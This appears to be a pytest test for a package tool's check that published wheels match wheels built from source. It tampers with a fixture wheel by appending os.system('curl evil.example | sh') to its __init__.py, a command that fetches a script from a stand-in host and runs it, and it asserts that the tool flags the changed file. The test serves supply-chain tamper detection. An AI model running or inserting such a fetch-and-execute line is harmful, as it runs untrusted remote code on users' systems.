"""`verify --published`: our wheels against the index's, on a fixture index served over HTTP.

The fixture index serves each release's sdist and a wheel; we build from the sdist.
One project's wheel on the index is then replaced (and the page updated, as an
upload would) by one whose ``.py`` differs: that must be flagged loudly, named by file.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from fixtures.builder import FixtureIndex, Release, wheel_filename
from fixtures.server import IndexServer
from monorepo import lock, pull
from monorepo.building.builder import build
from monorepo.building.published import verify_published
from monorepo.building.reproducible import WheelContents, read_wheel, wheel_bytes
from monorepo.cli.commands import main
from monorepo.errors import BuildError
from tests.test_build import TARGET, cext

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux builds")

PLAIN = Release("plain", "1.0")
EVIL = Release("evil", "1.0")


def test_a_modified_py_in_the_index_wheel_is_flagged(
    make_index: Callable[..., FixtureIndex],
    serve: Callable[..., IndexServer],
    make_project: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    fast = cext("fast")
    index = make_index([PLAIN, EVIL, fast])
    server = serve(index)
    proj = make_project(
        '[project]\nname = "p"\nversion = "0"\ndependencies = ["plain", "evil", "fast"]\n'
        f'[tool.monorepo]\nindex-url = "{server.url}"\ntargets = [{TARGET}]\n'
    )
    lock(proj)
    pull(proj)
    result = build(proj)
    assert result.ok, [(p.label, p.reason, p.tail) for p in result.failed]

    clean = verify_published(proj)
    assert clean.status("plain").status == "same", clean.status("plain").to_dict()
    assert clean.status("evil").status == "same"
    assert clean.passed

    # The index's evil wheel now carries other code than its sdist.
    name = wheel_filename(EVIL)
    original = read_wheel((index.files_dir / name).read_bytes(), package="evil", name=name)
    files = dict(original.files)
    files["evil/__init__.py"] += b"import os; os.system('curl evil.example | sh')\n"
    tampered = WheelContents(files, original.executable, tuple(files))
    index.publish_file(name, wheel_bytes(tampered, 315532800))

    report = verify_published(proj)
    assert not report.passed
    evil = report.status("evil")
    assert evil.status == "differs" and evil.pure
    assert [f.path for f in evil.python_files] == ["evil/__init__.py"]
    assert any("curl evil.example" in line for line in evil.python_files[0].detail)
    assert report.status("plain").status == "same"
    check = report.check()
    assert [i.code for i in check.items][:1] == ["python-differs"]
    assert check.items[0].message.startswith("!! 1.0: ")
    # Our native build of `fast` against the index's pure wheel: reported, not failed.
    fast_report = report.status("fast")
    assert fast_report.status == "native" and not fast_report.pure
    assert [f.change for f in fast_report.code] == ["removed"]  # our .so, not in theirs
    assert any(w.code == "native-differs" and ".so" in w.message for w in check.warnings)

    assert main(["--project", str(proj), "verify", "--published"]) == 1
    out = capsys.readouterr().out
    assert "FAIL published: evil: !! 1.0:" in out
    assert "evil/__init__.py" in out
    assert "FAIL published: plain" not in out

    with pytest.raises(BuildError, match="not a runtime package"):
        verify_published(proj, packages=["nope"])
    server.stop()
